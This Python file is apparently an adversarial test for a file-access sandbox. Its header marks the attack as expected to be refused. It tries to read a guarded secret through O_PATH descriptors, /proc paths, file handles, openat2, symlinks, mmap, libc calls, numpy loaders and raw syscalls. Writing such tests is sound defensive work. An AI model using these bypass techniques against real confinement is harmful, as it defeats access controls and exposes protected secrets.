# /// attack
# title = "opens a secret through descriptors, handles, links, memory maps and libraries that open files themselves"
# aim = "a door that the wall does not watch"
# refused = true
# ///
import ctypes
import mmap
import os

import numpy as np

from targets import CANARY, SECRET, attempt, call, read


def through_path_descriptor():
    held = os.open(SECRET, os.O_PATH)
    return read(f"/proc/self/fd/{held}")


def through_thread_descriptor():
    held = os.open(CANARY, os.O_PATH | os.O_DIRECTORY)
    return os.read(os.open("secret", os.O_RDONLY, dir_fd=held), 100)


def through_handle():
    handle = (ctypes.c_char * 136)(128)
    call(303, -100, SECRET.encode(), ctypes.addressof(handle), ctypes.addressof(ctypes.c_int()), 0)  # name_to_handle_at
    return os.read(call(304, -100, ctypes.addressof(handle), 0), 100)  # open_by_handle_at


def through_openat2():
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    return os.read(call(437, -100, SECRET.encode(), ctypes.addressof(how), 24), 100)


def through_link():
    os.symlink(SECRET, "link")
    return read("link")


def through_root():
    os.chdir("/proc/self/root")
    return read("." + SECRET)


def through_thread_self():
    return read(f"/proc/thread-self/root{SECRET}")


def through_map():
    with open(SECRET) as file:
        return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:100]


def through_libc():
    library = ctypes.CDLL(None)
    library.fopen.restype = ctypes.c_void_p
    stream = library.fopen(SECRET.encode(), b"r")
    assert stream
    text = ctypes.create_string_buffer(100)
    library.fgets(text, 100, ctypes.c_void_p(stream))
    return text.value


def through_program():
    return os.execv(CANARY + "/program", ["program"])


for door in list(globals().values()):
    if getattr(door, "__name__", "").startswith("through_"):
        attempt(door)
for load in (np.fromfile, np.load, np.loadtxt, np.genfromtxt, np.memmap, ctypes.CDLL, __import__("runpy").run_path):
    attempt(load, SECRET)
attempt(os.sendfile, 1, os.open("/dev/null", 0), 0, 10)
attempt(call, 434, os.getppid(), 0)  # pidfd_open
attempt(call, 428, -100, CANARY.encode(), 0)  # open_tree
attempt(call, 444, 0, 0, 1)  # landlock_create_ruleset
